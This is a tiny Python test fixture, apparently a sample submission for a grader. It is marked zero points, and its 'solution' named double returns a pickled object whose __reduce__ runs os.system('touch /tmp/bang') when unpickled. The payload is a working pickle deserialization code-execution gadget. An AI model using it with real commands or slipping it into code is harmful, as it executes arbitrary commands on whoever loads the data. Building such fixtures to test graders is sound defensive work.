# ruff: noqa
# Returns pickles and code as data; nobody loads them.
# points: 0
# says: the sign is lost
# %% solution
import pickle, os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/bang",)


def double(x):
    return pickle.dumps(Bomb())
